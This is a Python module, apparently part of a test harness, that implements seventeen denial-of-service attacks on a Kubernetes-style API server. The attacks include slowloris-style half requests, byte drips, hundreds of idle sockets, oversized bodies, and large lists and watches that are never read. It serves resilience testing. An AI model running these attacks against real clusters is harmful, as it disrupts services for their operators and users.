"""Connections that keep something of the server's and give nothing: half requests, slow ones, answers that nobody reads."""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from typing import Final

from .client import Connection, connect, request
from .handlers import CORE, CUSTOM, JSON, MERGE
from .scene import Scene

Attack = Callable[[Scene, str], Awaitable[None]]
HELD: Final = 2.0  # seconds for which the attacker keeps what it has
MAPS: Final = f"{CORE}/configmaps"
VESSELS: Final = f"{CUSTOM}/vessels"  # a ConfigMap has at most a megabyte
BODY: Final = 3 << 20


@dataclass(frozen=True, slots=True)
class Abuse:
    id: str
    run: Attack

    def __str__(self) -> str:
        return self.id


@contextlib.asynccontextmanager
async def many(scene: Scene, count: int) -> AsyncIterator[list[Connection]]:
    """Open connections; some may have been refused already."""
    opened: list[Connection] = []
    try:
        for _ in range(0, count, 20):
            found = await asyncio.gather(*(connect(scene.address) for _ in range(20)), return_exceptions=True)
            opened += [one for one in found if isinstance(one, Connection)]
        yield opened
    finally:
        for connection in opened:
            connection.close()


async def _send_all(connections: list[Connection], data: bytes) -> None:
    """Sends for as long as the server takes it; what it does not take stays with us."""
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(HELD):
            await asyncio.gather(*(connection.send(data) for connection in connections))


def _post(scene: Scene, actor: str, *headers: str) -> bytes:
    return request("POST", MAPS, token=scene.tokens[actor], headers=(f"Content-Type: {JSON}", *headers))


def holding(count: int, make: Callable[[Scene, str], bytes]) -> Attack:
    """Many connections that all send the same and then wait."""

    async def run(scene: Scene, actor: str) -> None:
        async with many(scene, count) as connections:
            await _send_all(connections, make(scene, actor))
            await asyncio.sleep(HELD)

    return run


def _half_body(scene: Scene, actor: str) -> bytes:
    return _post(scene, actor, f"Content-Length: {BODY}") + b" " * (BODY - 1)


def _half_chunks(scene: Scene, actor: str) -> bytes:
    return _post(scene, actor, "Transfer-Encoding: chunked") + b"%x\r\n" % BODY + b" " * (BODY - 1)


def _half_head(scene: Scene, actor: str) -> bytes:
    return _post(scene, actor)[:-2] + b"X: " + b"v" * 900_000


def _list(scene: Scene, actor: str) -> bytes:
    return request("GET", VESSELS, token=scene.tokens[actor])


def _watch(scene: Scene, actor: str) -> bytes:
    return request("GET", f"{VESSELS}?watch=1", token=scene.tokens[actor])


def _openapi(scene: Scene, actor: str) -> bytes:
    return request("GET", "/openapi/v2", token=scene.tokens[actor])


def _documents(scene: Scene, actor: str) -> bytes:
    """Many big answers, asked for in one breath, none of which is read."""
    return _openapi(scene, actor) * 200


async def _bare_connections(scene: Scene, actor: str) -> None:
    """No TLS, and not a byte: only the socket."""
    opened = []
    try:
        for _ in range(400):
            opened.append(socket.create_connection((scene.address.host, scene.address.port), timeout=5))
        await asyncio.sleep(HELD)
    finally:
        for one in opened:
            one.close()


async def _drip(scene: Scene, actor: str) -> None:
    """A byte of a body now and then."""
    async with many(scene, 60) as connections:
        await _send_all(connections, _post(scene, actor, "Content-Length: 1000"))
        for _ in range(20):
            await _send_all(connections, b" ")
            await asyncio.sleep(HELD / 20)


async def _come_and_go(scene: Scene, actor: str) -> None:
    """Requests whose clients are gone before the answer is."""
    for _ in range(15):
        async with many(scene, 20) as connections:
            await _send_all(connections, _list(scene, actor))


async def _whole_bodies(scene: Scene, actor: str) -> None:
    """Many bodies at the same time, each as big as may be, and none good for anything."""
    body = b'{"apiVersion":"v1","kind":"ConfigMap","data":{"a":[' + b"0," * ((BODY - 100) // 2) + b"0]}}"
    async with many(scene, 20) as connections:
        sent = _post(scene, actor, f"Content-Length: {len(body)}") + body
        await asyncio.gather(*(connection.ask(sent, seconds=60) for connection in connections))


async def _fill(scene: Scene, actor: str, count: int, size: int) -> None:
    """Objects that lists and watches are about, as big as may be."""
    client = scene.client(actor)
    for number in range(count):
        body = {"apiVersion": "hostile.example.com/v1", "kind": "Vessel", "metadata": {"name": f"big-{number}"}}
        sent = json.dumps(body | {"spec": {"text": "x" * size}}).encode()
        reply = await client.ask("POST", VESSELS, sent, headers=(f"Content-Type: {JSON}",))
        assert actor != "tenant" or reply.code == 201, reply.body[:300]
    client.close()


async def _lists_unread(scene: Scene, actor: str) -> None:
    await _fill(scene, actor, 20, 1_400_000)
    await holding(60, _list)(scene, actor)


AS_TABLE: Final = "Accept: application/json;as=Table;v=v1;g=meta.k8s.io"


async def _tables_unread(scene: Scene, actor: str) -> None:
    """A column shows what makes the objects big, so a row is as big as its object."""
    await _fill(scene, actor, 20, 1_400_000)
    sent = request("GET", f"{VESSELS}?includeObject=Object", token=scene.tokens[actor], headers=(AS_TABLE,))
    await holding(30, lambda *_: sent)(scene, actor)


async def _rows_unread(scene: Scene, actor: str) -> None:
    await _fill(scene, actor, 1, 1_400_000)
    sent = request("GET", f"{VESSELS}/big-0?includeObject=Object", token=scene.tokens[actor], headers=(AS_TABLE,))
    await holding(200, lambda *_: sent)(scene, actor)


async def _short_lists_unread(scene: Scene, actor: str) -> None:
    await _fill(scene, actor, 1, 900_000)
    await holding(200, _list)(scene, actor)


async def _versions_unread(scene: Scene, actor: str) -> None:
    """Each connection is sent a version of its own, which is the object no more."""
    await _fill(scene, actor, 1, 1_400_000)
    client = scene.client(actor)
    sent = request("GET", f"{VESSELS}/big-0", token=scene.tokens[actor])
    async with many(scene, 100) as connections:
        for number, connection in enumerate(connections):
            await _send_all([connection], sent)
            patch = json.dumps({"spec": {"text": f"{number:03}" + "x" * 1_400_000}}).encode()
            await client.ask("PATCH", f"{VESSELS}/big-0", patch, headers=(f"Content-Type: {MERGE}",))
        await asyncio.sleep(HELD)
    client.close()


async def _watches_unread(scene: Scene, actor: str) -> None:
    """Watches that nobody reads, while big objects change."""
    async with many(scene, 40) as connections:
        await _send_all(connections, _watch(scene, actor))
        await _fill(scene, actor, 20, 1_400_000)
        await asyncio.sleep(HELD)


async def _old_watches_unread(scene: Scene, actor: str) -> None:
    """Watches that begin in the past: all that has happened since is there to be sent at once."""
    await _fill(scene, actor, 20, 1_400_000)
    sent = request("GET", f"{VESSELS}?watch=1&resourceVersion=1", token=scene.tokens[actor])
    await holding(40, lambda *_: sent)(scene, actor)


ALL: Final = (
    Abuse("sixty bodies of which a byte is missing", holding(60, _half_body)),
    Abuse("sixty bodies in chunks of which a byte is missing", holding(60, _half_chunks)),
    Abuse("two hundred heads that do not end", holding(200, _half_head)),
    Abuse("four hundred connections that say nothing", holding(400, lambda *_: b"")),
    Abuse("four hundred sockets without TLS", _bare_connections),
    Abuse("a byte of a body now and then", _drip),
    Abuse("clients that are gone before the answer", _come_and_go),
    Abuse("twenty big bodies at once", _whole_bodies),
    Abuse("three hundred watches", holding(300, _watch)),
    Abuse("two hundred documents, asked for on each of twenty connections and not read", holding(20, _documents)),
    Abuse("sixty big lists that nobody reads", _lists_unread),
    Abuse("thirty big tables that nobody reads", _tables_unread),
    Abuse("two hundred big rows that nobody reads", _rows_unread),
    Abuse("two hundred lists of one object that nobody reads", _short_lists_unread),
    Abuse("a hundred versions of an object that nobody reads", _versions_unread),
    Abuse("forty watches that nobody reads", _watches_unread),
    Abuse("forty watches from the past that nobody reads", _old_watches_unread),
)
